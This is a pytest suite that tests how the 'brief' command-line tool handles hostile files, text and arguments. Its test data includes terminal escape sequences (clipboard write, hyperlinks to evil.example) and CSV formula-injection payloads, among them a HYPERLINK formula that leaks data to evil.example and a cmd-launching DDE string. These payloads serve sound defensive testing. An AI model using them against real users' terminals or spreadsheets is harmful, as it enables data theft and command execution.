"""Hostile input: files, text inside valid briefings, and arguments.

Whatever comes in, brief ends with one clear line and a documented status, shows
untrusted text inert, keeps JSON exact, and never writes a file it reads.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import briefcli.load
import briefcli.query
from briefcli.load import MAX_BYTES, BriefingError, parse_briefing
from tests.conftest import BUNDLED, MINI, MINI_ARTICLE, brief, brief_process, clean_environment, write_json
from tests.test_process import SGR, on_terminal

# --- untrusted files --------------------------------------------------------------


def refused(*args: str) -> str:
    """Run brief on a bad file: exit 1, nothing on stdout, one line on stderr; that line."""
    run = brief(*args)
    assert (run.exit_code, run.stdout) == (1, ""), run
    assert run.stderr.count("\n") == 1 and "Traceback" not in run.stderr
    return run.stderr


def test_a_missing_file(tmp_path: Path) -> None:
    assert (
        refused("summary", "--data", str(tmp_path / "nope.json"))
        == f"brief: {tmp_path / 'nope.json'}: no such file\n"
    )


def test_a_directory(tmp_path: Path) -> None:
    assert (
        refused("actors", "--data", str(tmp_path))
        == f"brief: {tmp_path}: a directory with no *.json briefing in it\n"
    )


def test_an_unreadable_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "secret.json"
    path.write_bytes(MINI.read_bytes())
    path.chmod(0)
    if os.geteuid() == 0:  # root reads anything: make the open fail as it would for a user
        real_open = open

        def denied(file: Any, *args: Any, **kwargs: Any) -> Any:
            if Path(file) == path:
                raise PermissionError(13, "Permission denied", str(file))
            return real_open(file, *args, **kwargs)

        monkeypatch.setattr(briefcli.load, "open", denied, raising=False)
    assert refused("summary", "--data", str(path)) == f"brief: {path}: permission denied: cannot read it\n"


def test_a_file_over_the_size_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "huge.json"
    with path.open("wb") as file:  # 200 MB, sparse: costs no disk
        file.truncate(200 * 1000 * 1000)
    assert (
        refused("summary", "--data", str(path))
        == f"brief: {path}: larger than the {MAX_BYTES // 2**20} MiB limit for a briefing\n"
    )


def test_a_pipe_over_the_size_limit_is_refused_after_the_limit(tmp_path: Path) -> None:
    run = brief_process("summary", "--data", "/dev/stdin", input=b" " * (MAX_BYTES + 10))
    assert (run.returncode, run.stdout) == (1, b"")
    assert (
        run.stderr
        == f"brief: /dev/stdin: larger than the {MAX_BYTES // 2**20} MiB limit for a briefing\n".encode()
    )


def test_a_briefing_can_come_through_a_pipe() -> None:
    run = brief_process("summary", "--json", "--data", "/dev/stdin", input=MINI.read_bytes())
    assert run.returncode == 0 and json.loads(run.stdout)["id"] == "mini-town-budget"


@pytest.mark.parametrize(
    "content",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"schema_version": 2, "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    ],
    ids=["top-level", "inside-a-field"],
)
def test_json_nested_100000_levels_deep(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "deep.json"
    path.write_bytes(content)
    message = refused("summary", "--data", str(path))
    assert message.startswith(f"brief: {path}: ")
    assert "nested too deeply" in message or "expected a JSON object" in message


# --- untrusted text inside a valid briefing ----------------------------------------

HOSTILE = [
    "[bold red]styled[/bold red]",
    "[/oops] unbalanced",
    "[link=https://evil.example]click[/link]",
    ":thumbs_up: :smiley:",
    "\x1b[2J\x1b[Hclear screen",
    "\x1b]52;c;ZXZpbA==\x07set clipboard",
    "\x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\device control",
    "bell\x07 backspace\x08 return\r vertical\x0b",
    "c1 csi\x9b2J and osc\x9d0;title\x9c",
    "nul\x00byte",
    "bidi \u202eevil\u202c and isolate \u2066x\u2069",
]
DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def hostile_briefing(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini briefing with hostile text in every field a view shows."""
    document: dict[str, Any] = json.loads(MINI.read_text(encoding="utf-8"))
    payload = " | ".join(HOSTILE)

    text_fields = {"name", "aliases", "original", "translation", "outlet", "title", "headline",
                   "as_written", "corrected"}  # fmt: skip

    def poison(node: Any, key: str | None = None) -> Any:
        if isinstance(node, dict):
            if node and set(node) <= {"en", "fr"}:  # a text in both languages
                return {"en": f"EN {payload}", "fr": f"FR {payload}"}
            return {k: poison(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [poison(item, key) for item in node]
        if isinstance(node, str) and key in text_fields:  # never ids, dates or enums
            return f"{node} {payload}"
        return node

    poisoned = poison(document)
    path = tmp_path_factory.mktemp("hostile") / "hostile.json"
    write_json(path, poisoned)
    assert brief("validate", str(path)).exit_code == 0  # hostile, yet valid
    return path


HUMAN_VIEWS = [
    ["summary"],
    ["summary", "--short"],
    ["actors"],
    ["actors", "zoe"],
    ["timeline"],
    ["quotes"],
    ["search", "thumbs"],
    ["validate", "--source", "/nonexistent/article.txt"],
]


@pytest.mark.parametrize("command", HUMAN_VIEWS, ids=[" ".join(c) for c in HUMAN_VIEWS])
def test_hostile_text_is_inert_on_a_terminal(hostile_briefing: Path, command: list[str]) -> None:
    if command[0] == "validate":
        command = [*command[:1], str(hostile_briefing), *command[1:]]
        args = command
    else:
        args = [*command, "--data", str(hostile_briefing)]
    status, shown = on_terminal(*args)
    assert status in (0, 1), shown
    text = SGR.sub(b"", shown).decode("utf-8").replace("\r\n", "\n")  # the terminal adds \r
    assert "\x1b" not in text  # ...no escape sequence reaches the terminal
    assert not DANGEROUS.search(text)
    if command[0] != "validate":
        flowing = " ".join(text.split())  # tables and wrapping may break a line anywhere
        if command[0] != "search":  # a search snippet shows only what is around the match
            assert "[bold red]styled[/bold red]" in flowing  # markup shows as it is written
        assert ":thumbs_up:" in flowing and "👍" not in text  # and emoji codes too
        assert "\\x1b[2J" in flowing  # escapes are spelled out


def test_hostile_text_is_inert_in_a_narrow_search(hostile_briefing: Path) -> None:
    """At 40 columns the hits stack (kind and place, the text indented below): still inert."""
    env = clean_environment(COLUMNS="40")
    status, shown = on_terminal("search", "thumbs", "--data", str(hostile_briefing), env=env)
    text = SGR.sub(b"", shown).decode("utf-8").replace("\r\n", "\n")
    assert status == 0 and "\x1b" not in text and not DANGEROUS.search(text)
    assert "summary  summary.headline\n  " in text  # stacked
    assert all(len(line) <= 40 for line in text.splitlines())
    flowing = " ".join(text.split())
    assert ":thumbs_up:" in flowing and "\\x1b[2J" in flowing


@pytest.mark.parametrize(
    "command", [*HUMAN_VIEWS[:-1], ["export"]], ids=[*[" ".join(c) for c in HUMAN_VIEWS[:-1]], "export"]
)
def test_hostile_text_is_inert_when_piped(hostile_briefing: Path, command: list[str]) -> None:
    run = brief_process(*command, "--data", str(hostile_briefing))
    assert run.returncode == 0
    text = run.stdout.decode("utf-8")
    assert "\x1b" not in text and not DANGEROUS.search(text)


def test_markdown_export_cannot_smuggle_markup(hostile_briefing: Path) -> None:
    document = brief("export", "--data", str(hostile_briefing)).stdout
    assert "[link=https://evil.example]" not in document
    assert r"\[link=https://evil.example\]" in document


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_hostile_text_exactly(hostile_briefing: Path, fmt: str) -> None:
    run = brief_process("actors", "--format", fmt, "--data", str(hostile_briefing), "--lang", "fr")
    raw = run.stdout
    assert b"\x1b" not in raw and b"\xc2\x9b" not in raw and b"\xe2\x80\xae" not in raw  # escaped as \u....
    first = json.loads(raw)[0] if fmt == "json" else json.loads(raw.splitlines()[0])
    expected = json.loads(hostile_briefing.read_text(encoding="utf-8"))["actors"][0]
    assert first["name"] == expected["name"]["fr"] and first["role"] == expected["role"]["fr"]


def test_csv_is_exact_when_piped(hostile_briefing: Path) -> None:
    run = brief_process("actors", "--format", "csv", "--data", str(hostile_briefing))
    assert "\x1b]52;c;ZXZpbA==\x07" in run.stdout.decode("utf-8")  # for the program it is piped to


def test_csv_on_a_terminal_is_inert(hostile_briefing: Path) -> None:
    _, shown = on_terminal("actors", "--format", "csv", "--data", str(hostile_briefing))
    assert b"\x1b" not in shown and b"\\x1b]52" in shown


def test_hostile_file_names_are_inert(tmp_path: Path) -> None:
    path = tmp_path / "evil\x1b]0;owned\x07.json"
    message = refused("summary", "--data", str(path))
    assert "\x1b" not in message and "\x07" not in message and "\\x1b]0;owned\\x07" in message


# --- hostile arguments ------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["frobnicate"],
        ["actors", "--frobnicate"],
        ["actors", "--format", "xml"],
        ["actors", "--kind", "alien"],
        ["timeline", "--kind", "party"],
        ["actors", "x" * 10_000],
        ["search", "x" * 10_000],
        ["timeline", "--actor", "x" * 10_000],
        ["timeline", "--since", "0"],
        ["timeline", "--since", "0000"],
        ["timeline", "--since", "0000-01-01"],
        ["timeline", "--until", "99999"],
        ["timeline", "--until", "99999-01-01"],
        ["timeline", "--since", "1" * 40],
        ["timeline", "--since", "9" * 10_000],
        ["timeline", "--since", ""],
        ["actors", ""],
        ["summary", "--lang", "klingon"],
        ["export", "--format", "pdf"],
    ],
    ids=lambda args: " ".join(a if len(a) < 20 else f"<{len(a)} chars>" for a in args),
)
def test_hostile_arguments_are_usage_errors(args: list[str]) -> None:
    run = brief(*args)
    assert (run.exit_code, run.stdout) == (2, "")
    assert run.stderr.count("\n") == 1 and "Traceback" not in run.stderr and len(run.stderr) < 600


def test_an_internal_error_is_one_line_that_says_how_to_see_more(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: Any, **__: Any) -> Any:
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(briefcli.query, "find_actors", broken)
    run = brief("actors")
    assert run.exit_code == 70
    assert run.stderr == (
        "brief: internal error: ZeroDivisionError: division by zero. This is a bug in brief; "
        "run again with BRIEF_DEBUG=1 to see the traceback.\n"
    )
    with pytest.raises(ZeroDivisionError):
        brief("actors", env={"BRIEF_DEBUG": "1"})


# --- files brief writes, and files it must not ------------------------------------


def test_a_failed_export_leaves_the_existing_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import briefcli.render

    target = tmp_path / "briefing.md"
    target.write_text("previous\n", encoding="utf-8")

    def half_then_fail(briefing: Any, fmt: str, lang: str, stream: Any) -> None:
        stream.write(b"# half of a document\n")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(briefcli.render, "export", half_then_fail)
    run = brief("export", "-o", str(target))
    assert (run.exit_code, run.stderr) == (1, f"brief: cannot write {target}: No space left on device\n")
    assert target.read_text(encoding="utf-8") == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["briefing.md"]


def test_export_keeps_the_mode_of_the_file_it_replaces(tmp_path: Path) -> None:
    target = tmp_path / "briefing.md"
    target.write_text("previous\n", encoding="utf-8")
    target.chmod(0o640)
    assert brief("export", "-o", str(target)).exit_code == 0
    assert target.stat().st_mode & 0o777 == 0o640


def test_export_into_a_missing_directory(tmp_path: Path) -> None:
    run = brief("export", "-o", str(tmp_path / "no" / "such" / "dir.md"))
    assert run.exit_code == 1 and run.stderr.startswith(
        f"brief: cannot write {tmp_path / 'no' / 'such' / 'dir.md'}: "
    )


AUDIT = """
import os, sys
watched = {os.path.realpath(p) for p in sys.argv[1].split(os.pathsep)}
seen = []
def hook(event, args):
    if event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
        if os.path.realpath(os.fsdecode(args[0])) in watched:
            mode, flags = args[1] or "", args[2] or 0
            writes = any(c in mode for c in "wax+") or flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
            seen.append("WRITE" if writes else "read")
sys.addaudithook(hook)
from briefcli.__main__ import leave, run
status = run(sys.argv[2:])
sys.stderr.write("opened: " + " ".join(seen) + "\\n")
leave(status)
"""


@pytest.mark.parametrize(
    "args",
    [
        ["summary"],
        ["validate"],
        ["export", "--json", "-o", "{out}"],
        ["timeline", "--data", "{mini}"],
        ["export", "--data", "{mini}", "-o", "{out}"],
        ["validate", "{mini}", "--source", "{article}"],
    ],
)
def test_briefings_are_only_ever_opened_for_reading(tmp_path: Path, args: list[str]) -> None:
    mini = tmp_path / "mini.json"
    mini.write_bytes(MINI.read_bytes())
    article = Path(__file__).parent / "data" / "mini-article.txt"
    values = {"out": str(tmp_path / "out.md"), "mini": str(mini), "article": str(article)}
    argv = [arg.format(**values) for arg in args]
    watched = os.pathsep.join([str(BUNDLED), str(mini), str(article)])
    run = subprocess.run(
        [sys.executable, "-c", AUDIT, watched, *argv],
        capture_output=True,
        env=clean_environment(),
        check=False,
    )
    assert run.returncode == 0, run.stderr
    opened = run.stderr.decode().strip().splitlines()[-1].split()[1:]
    assert opened and set(opened) == {"read"}  # it did open them, and only to read


# --- fuzzing the loader -----------------------------------------------------------

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
# Sizes a hostile file has: very long strings, of anything or of blanks.
long_strings = st.builds(
    lambda piece, times: piece * times,
    st.sampled_from(["x", "é", " ", "\u200b", "a-", "2025-", "\x1b[2J", "=1+1 "]),
    st.integers(1_000, 100_000),
)


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


BASE = json.loads(BUNDLED.read_text(encoding="utf-8"))
PATHS = _paths(BASE)[1:]

#: Every message the loader may give, as the README and docs/robustness.md describe them.
DOCUMENTED = [
    r"required, but missing",
    r"unknown field (.+ )?\(not in the briefing schema\)",
    r"expected (an ISO date|an id|64 lower-case|a two-letter|one of|one http or https address) .*",
    r"expected 2, got 1: version 1 wrote each source as one text; .*",
    r"holds an address: put it in 'url', one source per record",
    r"holds ';': one source per record, so write two records",
    r"holds two addresses: one source per record",
    r"no source with a URL: give at least one 'url'",
    r"expected \w+( \| \w+)*(, got \w+)?",
    r"expected (str|array|object|int) (of length )?(>=|<=) \d+",
    r"duplicate id .+ \(first at \$\.\w+\[\d+\]\.id\)",
    r"unknown actor .+",
    r".+ is not a real calendar date \(.+\)",
    r"ends \(.+\) before it starts \(.+\)",
    r".+ does not match the date .+ \(\w+\)",
    r"required when (published_)?basis is public-record.*",
    r"required for a policy change",
    r"only a policy change or a proposal has a direction, not a .+",
    r"a text needs 'en', 'fr' or both",
    r"is blank: only spaces or invisible characters",
    r"the quote is blank",
    r"paragraph \d+ is out of range: the article has \d+",
    r"\d+ words: evidence is at most 25",
    r"an actor cannot be its own affiliation",
    r"not valid JSON: .+",
    r"not valid UTF-8 \(byte \d+\)",
    r"the file is empty: expected a JSON object",
    r"JSON nested too deeply to be a briefing",
    r"expected a JSON object, got .+",
    r"not a valid briefing",
]


def assert_documented(problems: list[Any], *, whole_file: bool) -> None:
    """Each problem is one of the documented messages, at a JSON path (or, for a file
    that is not a JSON object, about the whole file), and makes a one-line error."""
    for problem in problems:
        assert any(re.fullmatch(pattern, problem.message, re.DOTALL) for pattern in DOCUMENTED), problem
        if problem.path is None:
            assert whole_file, problem
        else:
            assert re.fullmatch(r"\$(\.[^.\[\]]+|\[\d+\])*", problem.path, re.DOTALL), problem
        assert len(problem.message) < 500
    if problems:
        assert "\n" not in str(BriefingError("fuzzed.json", problems)).rstrip("\n")


#: At most this many records in one list: repeats compound (86 x 86 x 86 is 636,056 key
#: points, a file far past what the 5 s deadline per example is for; the cost bound at
#: scale is benchmarks/hostile.py's).
MANY = 2_000


def mutate(document: Any, path: tuple[Any, ...], action: str, value: Any) -> None:
    """Apply one mutation at `path`, if `path` still leads somewhere: an earlier one may
    have replaced a parent with a scalar, or removed it."""
    parent: Any = document
    for key in path[:-1]:
        if not isinstance(parent, (dict, list)) or (isinstance(parent, list) and not isinstance(key, int)):
            return
        try:
            parent = parent[key]
        except (KeyError, IndexError, TypeError):
            return
    last = path[-1]
    if isinstance(parent, dict):
        if action == "replace":
            parent[last] = value
        elif action == "delete":
            parent.pop(last, None)
        elif action == "add":
            parent[f"extra-{last}"] = value
        elif action == "repeat" and isinstance(parent.get(last), list) and parent[last]:
            parent[last] = (parent[last] * value)[:MANY]  # many records: duplicates ids, unless only one
    elif isinstance(parent, list) and isinstance(last, int) and last < len(parent):
        if action == "replace":
            parent[last] = value
        elif action == "delete":
            del parent[last]
        elif action == "add":
            parent.insert(0, value)
        elif action == "repeat":
            parent.extend([parent[last]] * value)


mutations = st.one_of(
    st.tuples(st.sampled_from(PATHS), st.sampled_from(["replace", "delete", "add"]), json_values),
    st.tuples(st.sampled_from(PATHS), st.just("replace"), long_strings),
    st.tuples(st.sampled_from(PATHS), st.just("repeat"), st.integers(2, 100)),
)


# deadline: a bound on each example, whatever its size, far above what one takes (~50 ms):
# a loader quadratic in some size fails it; a busy machine does not.
@settings(max_examples=150, deadline=timedelta(seconds=5), suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(mutations, min_size=1, max_size=4))
def test_mutated_briefings_give_documented_problems_never_exceptions(
    mutations: list[tuple[tuple[Any, ...], str, Any]],
) -> None:
    document = copy.deepcopy(BASE)
    for path, action, value in mutations:
        mutate(document, path, action, value)
    briefing, problems = parse_briefing(json.dumps(document).encode())
    assert briefing is not None or problems  # nothing decoded means something was said
    assert_documented(problems, whole_file=False)
    if document == BASE:
        assert (briefing, problems) != (None, []) and not problems


def test_a_mutation_under_a_parent_replaced_by_a_scalar_is_skipped() -> None:
    """The fuzzer's own bug (a random AttributeError): 'add' under a text made a string."""
    document = copy.deepcopy(BASE)
    mutate(document, ("actors", 0, "name"), "replace", "now a string")
    mutate(document, ("actors", 0, "name", "en"), "add", 1)
    mutate(document, ("actors", 0, "name", "en", "x"), "repeat", 3)
    assert document["actors"][0]["name"] == "now a string"


@settings(max_examples=200, deadline=timedelta(seconds=5))
@given(st.data())
def test_damaged_bytes_give_documented_problems_never_exceptions(data: st.DataObject) -> None:
    raw = bytearray(MINI.read_bytes())
    for _ in range(data.draw(st.integers(1, 5))):
        position = data.draw(st.integers(0, len(raw) - 1))
        raw[position] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(raw)))
    briefing, problems = parse_briefing(bytes(raw[:cut]))
    assert (briefing is None) <= bool(problems)  # no briefing, then a reason
    assert_documented(problems, whole_file=True)


# --- spreadsheets: CSV that a spreadsheet cannot run and every reader reads back -------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def spreadsheet_briefing(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini briefing with a formula in each of several texts, a bare carriage return,
    a correction, a public-record fact and two pieces of evidence."""
    document: dict[str, Any] = json.loads(MINI.read_text(encoding="utf-8"))
    zoe, council = document["actors"]
    zoe["name"] = {"en": FORMULAS[0]}
    zoe["aliases"] = [FORMULAS[1], "la maire"]
    zoe["story"] = {"en": "first line\rsecond line\r\nthird line\nfourth"}
    zoe["correction"] = {
        "as_written": "Zoe Angstrom",
        "corrected": "Zoë Ångström",
        "note": {"en": FORMULAS[2]},
        "sources": [{"outlet": "Town register", "title": "Mayors", "url": "https://example.org/mayors"}],
    }
    zoe["public_record"] = [
        {
            "fact": {"en": "Elected in 2020."},
            "sources": [
                {"outlet": FORMULAS[3], "title": "Results", "url": "https://example.org/r", "date": "2020"},
                {"outlet": "Gazette", "title": "-1 vote"},
            ],
        }
    ]
    zoe["evidence"].append({"para": 3, "quote": "Nous tiendrons parole."})
    council["role"] = {"en": FORMULAS[4]}
    council["story"] = {"en": FORMULAS[5]}
    document["quotes"][0]["translation"] = "We will\rkeep our word."
    document["events"][0]["title"] = {"en": "-5 degrees"}
    path = tmp_path_factory.mktemp("spreadsheet") / "spreadsheet.json"
    write_json(path, document)
    assert brief("validate", str(path)).exit_code == 0
    return path


def defused(cell: str) -> str:
    """OWASP: a cell that begins with = + - @ | % (unless it is a number), a tab or a CR
    gets a leading apostrophe; defusedcsv also escapes | in such a cell."""
    if cell[:1] in ("\t", "\r") or (cell[:1] in "=+-@|%" and cell and not re.fullmatch(r"-?[0-9,.]+", cell)):
        return "'" + cell.replace("|", "\\|") if cell[:1] not in ("\t", "\r") else "'" + cell
    return cell


def flattened(value: Any) -> str:
    """The CSV cell of a JSON value, as the README documents it."""
    if value is None:
        return ""
    if isinstance(value, list):
        return "; ".join(flattened(item) for item in value)
    if isinstance(value, dict) and set(value) == {"para", "quote"}:
        return f"¶{value['para']} {value['quote']}"
    if isinstance(value, dict) and "as_written" in value:
        return f"{value['as_written']} -> {value['corrected']}"
    if isinstance(value, dict) and "fact" in value:
        return f"{value['fact']} ({flattened(value['sources'])})"
    if isinstance(value, dict) and "outlet" in value:
        return " · ".join(value[key] for key in ("outlet", "title", "date", "url") if value[key])
    return str(value)


LISTINGS = [["actors"], ["timeline"], ["quotes"], ["search", "line"]]


@pytest.mark.parametrize("command", LISTINGS, ids=[c[0] for c in LISTINGS])
def test_csv_rows_are_the_json_records_flattened_and_defused(
    spreadsheet_briefing: Path, command: list[str]
) -> None:
    """Whole rows, every column: lists, evidence, corrections and facts flattened,
    formula-leading cells neutralised, and the rest exactly the text."""
    args = [*command, "--data", str(spreadsheet_briefing)]
    records = json.loads(brief_process(*args, "--json").stdout)
    run = brief_process(*args, "--format", "csv")
    assert run.returncode == 0 and records
    rows = list(csv.reader(io.StringIO(run.stdout.decode("utf-8"), newline="")))
    assert rows == [list(records[0])] + [
        [defused(flattened(v)) for v in record.values()] for record in records
    ]


def test_csv_neutralises_every_formula_and_json_keeps_it(spreadsheet_briefing: Path) -> None:
    args = ["actors", "--data", str(spreadsheet_briefing)]
    rows = list(
        csv.DictReader(io.StringIO(brief_process(*args, "--format", "csv").stdout.decode(), newline=""))
    )
    zoe, council = rows
    assert zoe["name"] == "'" + FORMULAS[0]
    assert zoe["aliases"] == "'" + FORMULAS[1].replace("|", "\\|") + "; la maire"
    assert council["role"] == "'\t=1+1" and council["story"] == "'\r=1+1"
    assert not any(cell and cell[0] in "=+-@\t\r" for row in rows for cell in row.values())
    for fmt in ("json", "jsonl"):
        text = brief_process(*args, "--format", fmt).stdout.decode()
        first = json.loads(text)[0] if fmt == "json" else json.loads(text.splitlines()[0])
        assert first["name"] == FORMULAS[0] and first["aliases"][0] == FORMULAS[1]  # exact


def csv_through_sqlite(path: Path, table: str) -> list[list[str]]:
    sqlite = shutil.which("sqlite3")
    if sqlite is None:  # .ci/run installs it: missing there is a failure, elsewhere a skip
        reason = "the sqlite3 command is not installed (Debian: apt-get install sqlite3)"
        if os.environ.get("CI") == "true":
            pytest.fail(f"the CSV read-back cannot run in CI: {reason}")
        pytest.skip(reason)
    database = path.with_suffix(".db")
    subprocess.run([sqlite, str(database), f".import --csv {path} {table}"], check=True, capture_output=True)
    dumped = subprocess.run(
        [sqlite, "-json", str(database), f"SELECT * FROM {table}"], check=True, capture_output=True
    ).stdout
    return [list(row.values()) for row in json.loads(dumped or b"[]")]


def csv_through_duckdb(path: Path) -> list[list[str]]:
    duckdb = pytest.importorskip("duckdb", reason="DuckDB is optional: pip install duckdb to run this")
    relation = duckdb.read_csv(str(path), header=True, all_varchar=True)
    return [["" if cell is None else cell for cell in row] for row in relation.fetchall()]


@pytest.mark.parametrize("command", LISTINGS, ids=[c[0] for c in LISTINGS])
def test_every_csv_reads_back_as_written(
    spreadsheet_briefing: Path, command: list[str], tmp_path: Path
) -> None:
    """A bare carriage return is quoted: Python's csv, SQLite and DuckDB all read the
    records brief wrote, no row split (they were 16 rows for 14 actors)."""
    args = [*command, "--data", str(spreadsheet_briefing)]
    written = brief_process(*args, "--format", "csv").stdout
    path = tmp_path / "out.csv"
    path.write_bytes(written)
    _, *rows = list(csv.reader(io.StringIO(written.decode("utf-8"), newline="")))
    assert len(rows) == len(json.loads(brief_process(*args, "--json").stdout))
    assert csv_through_sqlite(path, command[0]) == rows
    assert csv_through_duckdb(path) == rows


# --- blank texts, long values, many problems -------------------------------------------

BLANKS = [" ", "\u200b", " \u200d\u00ad ", "\ufeff\t", "\u2060\u200e"]


def _set(document: dict[str, Any], path: str, value: Any) -> None:
    keys = [int(k) if k.isdigit() else k for k in re.findall(r"[^.\[\]]+", path.removeprefix("$"))]
    node: Any = document
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = value


BLANKABLE = [
    "$.quotes[0].original",
    "$.quotes[0].translation",
    "$.source.headline",
    "$.actors[0].name.en",
    "$.actors[0].role.fr",
    "$.actors[0].aliases[0]",
    "$.actors[1].story.en",
    "$.events[0].title.en",
    "$.events[1].detail.en",
    "$.quotes[0].context.fr",
    "$.summary.headline.en",
    "$.summary.bottom_line.en",
    "$.summary.bottom_line.fr",
    "$.summary.key_points[0].text.en",
    "$.summary.key_points[0].evidence[0].quote",
]


@pytest.mark.parametrize("blank", BLANKS, ids=[repr(b) for b in BLANKS])
@pytest.mark.parametrize("path", BLANKABLE)
def test_a_blank_text_is_refused_with_its_path(tmp_path: Path, path: str, blank: str) -> None:
    document = json.loads(MINI.read_text(encoding="utf-8"))
    _set(document, path, blank)
    run = brief("validate", str(write_json(tmp_path / "blank.json", document)), "--json")
    assert run.exit_code == 1
    assert [p["path"] for p in run.json()["problems"]] == [path]


SOURCE = {"outlet": "Town register", "title": "Minutes", "url": "https://example.org/minutes"}


@pytest.mark.parametrize(
    "path",
    [
        "$.source.published_sources[0].outlet",
        "$.events[0].sources[0].title",
        "$.actors[0].correction.sources[0].outlet",
        "$.actors[0].public_record[0].sources[0].title",
    ],
)
@pytest.mark.parametrize("blank", ["   ", "\u200b", "\u00a0\u00ad"], ids=repr)
def test_a_blank_source_is_refused(tmp_path: Path, path: str, blank: str) -> None:
    document = json.loads(MINI.read_text(encoding="utf-8"))
    document["source"]["published_basis"] = "public-record"
    document["source"]["published_sources"] = [dict(SOURCE)]
    document["events"][0]["basis"] = "public-record"
    document["events"][0]["sources"] = [dict(SOURCE)]
    note = {"en": "Spelled with accents."}
    document["actors"][0]["correction"] = {
        "as_written": "Zoe",
        "corrected": "Zoë",
        "note": note,
        "sources": [dict(SOURCE)],
    }
    document["actors"][0]["public_record"] = [
        {"fact": {"en": "Mayor since 2020."}, "sources": [dict(SOURCE)]}
    ]
    assert brief("validate", str(write_json(tmp_path / "sourced.json", document))).exit_code == 0
    _set(document, path, blank)
    run = brief("validate", str(write_json(tmp_path / "blank.json", document)), "--json")
    assert run.exit_code == 1, run.stdout
    assert [(p["path"], p["message"]) for p in run.json()["problems"]] == [
        (path, "is blank: only spaces or invisible characters")
    ]


def test_a_blank_original_is_not_found_verbatim(tmp_path: Path) -> None:
    document = json.loads(MINI.read_text(encoding="utf-8"))
    document["quotes"][0]["original"] = " "
    path = write_json(tmp_path / "blank.json", document)
    run = brief("validate", str(path), "--source", str(MINI_ARTICLE))
    assert run.exit_code == 1 and "$.quotes[0].original: is blank" in run.stdout
    assert "verbatim in" not in run.stdout and "found verbatim" not in run.stdout


MEGA = 1_000_000


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("$.actors[0].id", "z" * MEGA),  # then unknown in every reference to the old id
        ("$.events[0].date", "9" * MEGA),
        ("$.events[0].kind", "k" * MEGA),
        ("$.events[0].actors", ["a" * MEGA]),
        ("$.quotes[0].speaker", "s" * MEGA),
        ("$.actors[0].affiliation", "-" * MEGA),
    ],
    ids=["id", "date", "kind", "reference", "speaker", "bad id"],
)
def test_an_echoed_value_is_cut_to_a_readable_length(tmp_path: Path, path: str, value: Any) -> None:
    document = json.loads(MINI.read_text(encoding="utf-8"))
    _set(document, path, value)
    bad = write_json(tmp_path / "big.json", document)
    message = refused("summary", "--data", str(bad))
    assert len(message) < 300 + len(str(bad)), message[:300]
    listed = brief("validate", str(bad)).stdout
    assert max(len(line) for line in listed.splitlines()) < 300


def test_an_unknown_key_of_a_megabyte_is_cut(tmp_path: Path) -> None:
    document = json.loads(MINI.read_text(encoding="utf-8"))
    document["actors"][0]["k" * MEGA] = 1
    message = refused("summary", "--data", str(write_json(tmp_path / "key.json", document)))
    assert len(message) < 400 and "(1,000,000 characters) (not in the briefing schema)" in message


def test_thousands_of_unknown_references_get_a_few_suggestions(tmp_path: Path) -> None:
    """A suggestion costs a scan of every id: only the first ones get one, so that a
    file of thousands is refused at once (it took 35 s)."""
    document = json.loads(MINI.read_text(encoding="utf-8"))
    document["events"][0]["actors"] = [f"town-councii-{i}" for i in range(2000)]
    run = brief("validate", str(write_json(tmp_path / "refs.json", document)), "--json")
    messages = [p["message"] for p in run.json()["problems"]]
    assert len(messages) == 2000
    suggested = [m for m in messages if "did you mean" in m]
    assert suggested == messages[: len(suggested)] and 1 <= len(suggested) <= 20


# --- the article given to validate --source ---------------------------------------------


def test_an_article_has_a_size_limit() -> None:
    run = brief_process("validate", "--data", str(MINI), "--source", "/dev/zero")
    assert (run.returncode, run.stdout) == (1, b"")
    assert run.stderr == b"brief: /dev/zero: larger than the 16 MiB limit for an article\n"


def test_an_article_over_the_limit_is_refused_unread(tmp_path: Path) -> None:
    article = tmp_path / "huge.txt"
    with article.open("wb") as file:
        file.truncate(17 * 2**20)  # sparse
    run = brief("validate", str(MINI), "--source", str(article))
    assert (run.exit_code, run.stderr) == (
        1,
        f"brief: {article}: larger than the 16 MiB limit for an article\n",
    )


